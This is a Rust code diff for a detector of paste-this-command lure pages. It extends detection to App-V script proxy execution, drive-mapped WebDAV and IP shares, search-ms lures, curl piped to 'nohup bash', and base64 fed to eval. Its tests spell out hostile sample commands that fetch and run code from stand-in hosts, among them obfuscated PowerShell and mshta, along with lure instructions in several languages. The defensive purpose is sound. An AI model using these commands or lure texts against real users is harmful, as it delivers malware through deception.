@@ -555,7 +555,13 @@ fn borrowed(addr: &str) -> bool {
 
 /// The host of the first UNC path of `flat` (empty when there is none).
 fn unc_host(flat: &str) -> &str {
-    flat.find("\\\\").map_or("", |i| share_host(&flat[i..]))
+    share_host(unc_at(flat))
+}
+
+/// `flat` from its first UNC path on (empty when there is none).
+#[inline(never)]
+fn unc_at(flat: &str) -> &str {
+    flat.find("\\\\").map_or("", |i| &flat[i..])
 }
 
 /// A UNC path to a host the internet can serve: a dotted name, an IP, WebDAV's `host@SSL`.
@@ -708,9 +714,10 @@ const RUNNERS: &[&str] = &[
 /// API doc's: review 28 C-M1).
 fn piped_to_shell(flat: &str) -> bool {
     flat.split('|').skip(1).any(|after| {
-        let mut args = after.split(' ').filter(|t| !t.is_empty());
+        // (`| nohup bash &`, `| bash; echo done`: the shell is the word after the pipe.)
+        let mut args = tokens(after).into_iter();
         let name = args
-            .find(|t| *t != "sudo" && !t.starts_with('-'))
+            .find(|t| !matches!(*t, "sudo" | "nohup") && !t.starts_with('-'))
             .map_or("", program);
         match RUNNERS[..RUNNERS.len() - 3].iter().position(|s| *s == name) {
             None => false,
@@ -887,8 +894,9 @@ fn shapes(flat: &str) -> Vec<Shape> {
     let prog = |name: &str| toks.iter().any(|t| program(t) == name);
     let mut out = Vec::new();
 
-    // PowerShell: flags can be abbreviated to any unambiguous prefix.
-    let ps = prog("powershell") || prog("pwsh");
+    // PowerShell: flags can be abbreviated to any unambiguous prefix. Windows' signed
+    // `SyncAppvPublishingServer.vbs "n; …"` runs what follows its `;` as PowerShell, hidden.
+    let ps = prog("powershell") || prog("pwsh") || has(flat, "syncappvpublishingserver");
     // (`[scriptblock]::Create(…).Invoke()`, `$ExecutionContext.InvokeCommand.InvokeScript(…)`,
     // `&(gcm i*x)`: the same run of fetched text without the word `iex`.)
     let ps_exec = [
@@ -1015,16 +1023,28 @@ fn shapes(flat: &str) -> Vec<Shape> {
     // organisation: over WebDAV (`host@SSL`, `DavWWWRoot`), on a bare IP, or naming a script or
     // program, which the Run box starts. (A printer or a folder on a named host is what IT pages
     // give.)
-    let opener = toks
-        .first()
-        .is_some_and(|t| matches!(program(t), "explorer" | "start"));
-    let path = toks.get(usize::from(opener)).copied().unwrap_or("");
+    // (`pushd \\share && start x.bat`, `net use z: \\share && z:\x.cmd`: the share mapped as a
+    // drive, then run from, whatever follows.)
+    let first = toks.first().map_or("", |t| program(t));
+    let net = first == "net" && toks.get(1) == Some(&"use");
+    let maps = net || first == "pushd";
+    let at = usize::from(maps || matches!(first, "explorer" | "start"))
+        + usize::from(net)
+        + usize::from(net && toks.get(2).is_some_and(|t| t.ends_with(':')));
+    // (`search-ms:query=…&crumb=location:\\host@SSL\share`: Explorer lists the share's files as
+    // results, a shortcut among them.)
+    let search = first.starts_with("search");
+    let path = if search {
+        unc_at(flat)
+    } else {
+        toks.get(at).copied().unwrap_or("")
+    };
     let host = share_host(path);
     let runnable = runnable(path);
     let lure_share = host.contains('@') || has(path, "davwwwroot") || ip_host(host) || runnable;
     // The Run box passes what follows a program to it: `\\ip\pub\check.exe # I am not a robot`.
     if path.starts_with("\\\\")
-        && (toks.len() <= 1 + usize::from(opener) || runnable)
+        && (toks.len() <= 1 + at || runnable || maps || search)
         && lure_share
         && unc_reaches_out(path)
     {
@@ -1042,7 +1062,8 @@ fn shapes(flat: &str) -> Vec<Shape> {
             toks.windows(2)
                 .any(|w| program(w[0]) == *s && (w[1] == "-c" || w[1].starts_with("<")))
         });
-    if b64 && to_shell {
+    // (`eval "$(echo … | base64 -d)"` runs the decoded text as `sh -c` would.)
+    if b64 && (to_shell || has_word(flat, "eval")) {
         out.push(Shape::Base64Shell);
     }
     if fetch && has(flat, "chmod +x") {
@@ -1453,7 +1474,7 @@ impl PageHits {
     /// A share path is compared without its trailing separator, however short it is.
     fn shows(&self, command: &Command) -> bool {
         if command.shapes.contains(&Shape::UncOpen) {
-            let path = command.flat.find("\\\\").map_or("", |i| &command.flat[i..]);
+            let path = unc_at(&command.flat);
             let path = trim_end_by(path, |c| c == '\\' || c == '/');
             return path.len() > 2 && has(&self.flat, path);
         }
@@ -5025,5 +5046,83 @@ mod tests {
             "https://www.praxis-eichhof.test/",
             "Some users see this: the booking calendar did not load correctly. How to fix:"
         ));
+    }
+
+    /// Session 38: command shapes held-out kits use that main did not read (each one fails on
+    /// main 837f425: no shape, so no verdict whatever the page says).
+    #[test]
+    fn kits_shapes_of_the_thirty_eighth_session() {
+        // Windows' signed App-V script runs what follows its `;` as PowerShell; `gcm *stM*` is
+        // Invoke-RestMethod found by a wildcard, `gal i*x` iex.
+        assert!(shapes_of(
+            r#"C:\WINDOWS\system32\SyncAppvPublishingServer.vbs "n;&(gal i*x)(&(gcm *stM*) 'cdn.kit.test/a')""#
+        )
+        .contains(&Shape::PowerShellDownload));
+        // A WebDAV or public-IP share mapped as a drive, then run from.
+        for clip in [
+            r"pushd \\verify-cdn.test@SSL\DavWWWRoot && start run.bat",
+            r"net use Z: \\203.0.113.12\pub && Z:\check.cmd",
+            r"net use \\verify-cdn.test@SSL\s & \\verify-cdn.test@SSL\s\a.exe",
+            // Explorer's search over such a share: its files shown as results.
+            r"search-ms:query=Invoice&crumb=location:\\verify-cdn.test@SSL\DavWWWRoot\files",
+        ] {
+            assert_eq!(shapes_of(clip), [Shape::UncOpen], "{clip}");
+        }
+        // The organisation's own share mapped so is none (a named host, a private address).
+        for clip in [
+            r"net use Z: \\fileserver.corp.example\Teams",
+            r"pushd \\10.1.2.3\setup && setup.cmd",
+            r"net use Z: \\fs01\home",
+            "search-ms:query=*.docx&crumb=location:C:\\Users",
+        ] {
+            assert!(!shapes_of(clip).contains(&Shape::UncOpen), "{clip}");
+        }
+        // A pipe to a shell behind `nohup`, or with a command after it.
+        for clip in [
+            "curl -sL https://kit.test/a | nohup bash &",
+            "curl -fsSL https://kit.test/i | nohup zsh",
+            "curl -s https://kit.test/i | bash; echo \"Verification successful\"",
+        ] {
+            assert!(shapes_of(clip).contains(&Shape::PipeToShell), "{clip}");
+        }
+        // (Data still: a pipe into a reader that runs nothing.)
+        assert!(shapes_of("curl -s https://x.example/a | nohup jq . > out.json").is_empty());
+        // Decoded base64 given to `eval`.
+        assert_eq!(
+            shapes_of("x=$(echo Y3VybCAtcyBo | base64 -d); eval \"$x\""),
+            [Shape::Base64Shell]
+        );
+        assert_eq!(
+            shapes_of("eval \"$(echo Y3VybCAtcyBo | base64 --decode)\""),
+            [Shape::Base64Shell]
+        );
+        // `eval` of anything else, and base64 decoded to the screen, are not.
+        assert!(shapes_of("eval \"$(ssh-agent -s)\" && ssh-add").is_empty());
+        assert!(shapes_of("echo aGVsbG8= | base64 -D").is_empty());
+    }
+
+    /// Session 38: the steps' other wordings (right-click on the Start menu, the Windows key held
+    /// in es fr pt ru nl pl, "type cmd" for a command kept off the page).
+    #[test]
+    fn run_steps_worded_otherwise() {
+        let clip = "mshta https://cdn-verify.test/v.hta";
+        for text in [
+            "Right-click the Start menu and select Windows PowerShell. Right-click to paste, then press Enter.",
+            "Right click on the Windows icon, choose Windows PowerShell, right click to paste and press Enter.",
+            "Mantenga presionada la tecla Windows y presione R. Pegue con Ctrl + V y presione Intro.",
+            "Maintenez la touche Windows enfoncée et appuyez sur R, puis Ctrl + V et Entrée.",
+            "Segure a tecla Windows e pressione R, depois Ctrl + V e Enter.",
+            "Удерживая клавишу Windows, нажмите R, затем Ctrl + V и Enter.",
+            "Houd de Windows-toets ingedrukt en druk op R, dan Ctrl + V en Enter.",
+            "Przytrzymaj klawisz Windows i naciśnij R, potem Ctrl + V i Enter.",
+        ] {
+            assert!(judged(clip, text), "{text}");
+        }
+        // "type cmd" is a run step for a command the page does not show, not for one it shows.
+        let text = "Press the Windows key, type cmd, right-click to paste and press Enter.";
+        assert!(judged(clip, text));
+        let shown =
+            "Press the Windows key, type cmd, then run: netsh winsock reset && ipconfig /flushdns";
+        assert!(!judged("netsh winsock reset && ipconfig /flushdns", shown));
     }
 }
